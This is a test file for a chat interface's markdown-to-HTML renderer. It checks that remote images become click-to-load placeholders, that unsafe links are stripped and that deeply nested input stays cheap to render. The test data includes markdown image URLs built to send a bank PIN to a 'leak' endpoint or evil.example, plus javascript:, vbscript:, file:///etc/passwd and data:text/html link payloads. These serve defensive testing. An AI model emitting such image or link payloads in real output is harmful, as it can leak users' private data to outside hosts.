"""Model text → HTML: bounded cost, no remote image the browser would fetch, safe links."""

from __future__ import annotations

import html
import re

import pytest

from secretgpt.interfaces.web_ui.markdown_render import (
    MAX_BLOCK_CHARS,
    MAX_INLINE_IMAGE_CHARS,
    has_image_placeholder,
    render_cost,
    render_markdown,
    replace_image_placeholder,
    shows_image_placeholder,
)

LEAK = "http://127.0.0.1:19501/leak?q=bank+PIN+4921"

IMAGE_FORMS = {
    "inline": (f"Here: ![chart]({LEAK})", LEAK),
    "inline with title": (f'![chart]({LEAK} "a title")', LEAK),
    "reference": (f"See ![chart][ref].\n\n[ref]: {LEAK}", LEAK),
    "collapsed reference": (f"![chart][]\n\n[chart]: {LEAK}", LEAK),
    "protocol-relative": ("![chart](//127.0.0.1:19501/leak?q=x)", "//127.0.0.1:19501/leak?q=x"),
    "in a table": (f"| a | b |\n| --- | --- |\n| ![chart]({LEAK}) | 2 |", LEAK),
    "in a link": (f"[![chart]({LEAK})](https://example.org/)", LEAK),
    "https in a list": ("- one\n- ![chart](https://evil.example/p.png)", "https://evil.example/p.png"),
    "angle brackets": (f"![chart](<{LEAK}>)", LEAK),
}

SRC_RE = re.compile(r"""\b(?:src|srcset|background|poster)\s*=""", re.IGNORECASE)


def image_sources(rendered: str) -> list[str]:
    return re.findall(r'<img[^>]*\bsrc="([^"]*)"', rendered)


@pytest.mark.parametrize("form", IMAGE_FORMS)
def test_every_remote_image_form_becomes_a_placeholder(form: str) -> None:
    text, address = IMAGE_FORMS[form]
    rendered = render_markdown(text)
    assert image_sources(rendered) == []
    assert len(SRC_RE.findall(rendered)) == 0
    assert has_image_placeholder(rendered) and shows_image_placeholder(rendered, address)
    assert "Load image" in rendered
    assert ">chart<" in rendered or ">image<" in rendered  # the alt text shows
    assert "127.0.0.1:19501" in rendered or "evil.example" in rendered  # and the host


def test_raw_img_tags_and_html_are_text() -> None:
    rendered = render_markdown(f'<img src="{LEAK}"> <picture><source srcset="{LEAK}"></picture> '
                               f'<div style="background:url({LEAK})">x</div>')
    assert "<img" not in rendered and "<source" not in rendered and "<div" not in rendered
    assert "&lt;img src=" in rendered


def test_data_images_show_inline_within_a_cap() -> None:
    small = "data:image/png;base64," + "A" * 100
    assert image_sources(render_markdown(f"![dot]({small})")) == [small]
    large = "data:image/png;base64," + "A" * MAX_INLINE_IMAGE_CHARS
    rendered = render_markdown(f"![big]({large})")
    assert image_sources(rendered) == [] and "too large" in rendered
    svg = render_markdown("![s](data:image/svg+xml;base64,PHN2Zz4=)")  # markdown-it refuses it
    assert "<img" not in svg


def test_relative_images_are_not_loaded_and_not_loadable() -> None:
    rendered = render_markdown("![x](/api/v1/conversations) ![y](pic.png) ![z](/\\evil.example/x)")
    assert image_sources(rendered) == []
    assert "Load image" not in rendered and not has_image_placeholder(rendered)
    assert rendered.count("not loaded: a relative address") == 3


def test_loading_swaps_the_placeholder_for_the_image() -> None:
    rendered = render_markdown(f"Before ![chart]({LEAK}) and ![other](https://b.example/o.png) after")
    data_url = "data:image/png;base64,iVBORw0KGgo="
    loaded = replace_image_placeholder(rendered, LEAK, data_url)
    assert image_sources(loaded) == [data_url]
    assert 'alt="chart"' in loaded and "Before" in loaded and "after" in loaded
    assert shows_image_placeholder(loaded, "https://b.example/o.png")  # the other one is untouched
    failed = replace_image_placeholder(rendered, LEAK, note="could not load: HTTP 404", failed=True)
    assert "could not load: HTTP 404" in failed and shows_image_placeholder(failed, LEAK)


def test_links_are_safe() -> None:
    rendered = render_markdown("[ok](https://example.org) [bad](javascript:alert(1)) [vb](vbscript:x) "
                               "[f](file:///etc/passwd) [d](data:text/html;base64,PHNjcmlwdD4=)")
    hrefs = re.findall(r'href="([^"]*)"', rendered)
    assert hrefs == ["https://example.org"]
    assert 'rel="noopener noreferrer nofollow"' in rendered


@pytest.mark.parametrize("text", [
    ">" * 1000 + " deep",
    "".join("  " * i + f"- item{i}\n" for i in range(1000)),
    "- " * 1000 + "deep",
    "1. " * 1000 + "deep",
    "> - " * 500 + "deep",
])
def test_nesting_1000_deep_shows_as_text(text: str) -> None:
    rendered = render_markdown(text)
    assert rendered.startswith("<pre")
    assert "deep" in rendered or "item999" in rendered  # nothing dropped


def test_moderate_nesting_still_renders() -> None:
    rendered = render_markdown("".join("  " * i + f"- item{i}\n" for i in range(8)))
    assert rendered.count("<ul>") == 8 and "item7" in rendered


def test_a_block_over_the_cap_is_preformatted_text() -> None:
    text = "**bold** <b>x</b> ![i](http://h/i)\n" + "word " * (MAX_BLOCK_CHARS // 5)
    rendered = render_markdown(text)
    assert rendered.startswith("<pre") and "<strong>" not in rendered and "Load image" not in rendered
    assert html.unescape(re.sub(r"<[^>]+>", "", rendered)) == text


def test_a_renderer_failure_is_shown_as_text_never_raised(monkeypatch: pytest.MonkeyPatch) -> None:
    from secretgpt.interfaces.web_ui import markdown_render

    def explode(*args: object, **kwargs: object) -> None:
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(markdown_render._MD, "parse", explode)
    assert render_markdown("*hello* <b>") == '<pre class="sg-raw whitespace-pre-wrap break-words">*hello* &lt;b&gt;</pre>'


def test_80k_of_backticks_is_over_the_cap_and_cheap() -> None:
    text = "`" * 40_000 + "x" + "`" * 40_000
    assert render_markdown(text).startswith("<pre") and render_cost(text) < 20_000


@pytest.mark.parametrize("text", [
    "`" * 20_000 + "x" + "`" * 20_000,
    "[" * 20_000,
    "![" * 10_000,
    "*a" * 10_000,
    "|x" * 10_000 + "\n" + "|-" * 10_000,
])
def test_pathological_inputs_render_and_are_costed_for_a_thread(text: str) -> None:
    rendered = render_markdown(text)
    assert rendered and "<img" not in rendered
    assert render_cost(text) > 20_000  # the page renders these off the event loop


def test_code_is_highlighted_and_escaped() -> None:
    rendered = render_markdown("```python\nprint('<b>')\n```")
    assert 'class="codehilite"' in rendered and "&lt;b&gt;" in rendered and "<b>" not in rendered
    assert render_markdown("```nosuchlanguage\n<x>\n```").count("&lt;x&gt;") == 1
